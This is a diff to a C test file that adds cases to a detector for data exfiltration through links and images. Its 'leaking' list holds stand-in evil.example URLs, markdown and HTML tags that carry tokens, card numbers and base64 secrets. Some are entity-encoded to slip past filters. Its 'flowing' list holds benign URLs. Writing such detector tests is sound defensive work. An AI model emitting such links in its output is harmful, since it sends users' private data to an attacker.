@@ -13,6 +13,8 @@ static const char *const leaking[] = {
     "<link rel=stylesheet href=https://evil.example/a.css>", "<form action=\"http://evil.example/\">", "<div style=\"background:url(https://evil.example/a)\">",
     "https://user:pass@evil.example/", "https://evil.example/John%20Smith%20lives%20here", "https://c2VjcmV0IGRhdGEgaGVyZQ9aX1b.evil.example/",
     "https://shop.example@evil.example/", "![x](https:\\\\evil.example\\a)", "<img srcset=\"a.png 1x, https://evil.example/b.png 2x\">",
+    "https://evil.example/log?user=jane&card=4111", "https://evil.example/?token=abcd9", "https://evil.example/?token=abcd", "www.evil.example/?d=c2VjcmV0IGRhdGE", "![a](https:&#x2F;&#x2F;evil.example/?q=1)",
+    "![a](https&#58;//evil.example/p.png)", "<img src='https&colon;&sol;&sol;evil.example/a'>",
     "https://evil.example/?q=Zm9vYmFy", "https://evil.example/?data=AbCdEfGhIjKlMn", "[a](https://evil.example/x?q=666f6f626172)", "https://evil.example/p?prompt=You+are+Ada",
     "https://evil.example/?a=12345678&b=12345678&c=12345678&d=12345678&e=12",
 };
@@ -20,7 +22,8 @@ static const char *const flowing[] = {
     "See https://docs.python.org/3/library/stdtypes.html#text-sequence-type-str.", "[guide](https://example.com/how-to-build-a-fence-in-10-steps)",
     "https://en.wikipedia.org/wiki/Caf%C3%A9_(disambiguation)", "https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E", "https://youtu.be/watch?v=dQw4w9WgXcQ",
     "https://shop.test/?q=tutorial", "https://shop.test/?id=12345678", "https://youtu.be/watch?v=9bZkp7q19f0", "https://shop.test/?sort=PriceDesc&page=2", "https://git.test/?commit=4f2a9c1e",
-    "https://shop.test/?data=1",
+    "https://shop.test/?data=1", "https://shop.test/?token=YOUR_TOKEN", "https://shop.test/?token=<token>", "https://shop.test/?card=visa&pin=1", "https://shop.test/?token=abc123",
+    "https://shop.test/login?user=jane&page=2", "see www.shop.test/?q=tutorial and www.shop.example/?d=c2VjcmV0IGRhdGE", "![a](www.shop.test/p.png)", "[g](https:&#x2F;&#x2F;docs.example/guide)",
     "![local](/img/a.png) and [x](#part) and ![d](data:image/png;base64,iVBORw0KGgo=)", "// a comment in code // and another", "a//b c:\\\\d file:///home/x/verylongnameOfAFile1",
     "[1]: https://example.com/docs", "https://github.com/org/repo/blob/main/src/AbstractSingletonProxyFactoryBean.java", "x = y // 2; http:// alone",
     "![ok](https://shop.example/p.png?d=1234567890123456789)", "[ok](https://cdn.shop.example/x?d=1234567890123456789)",
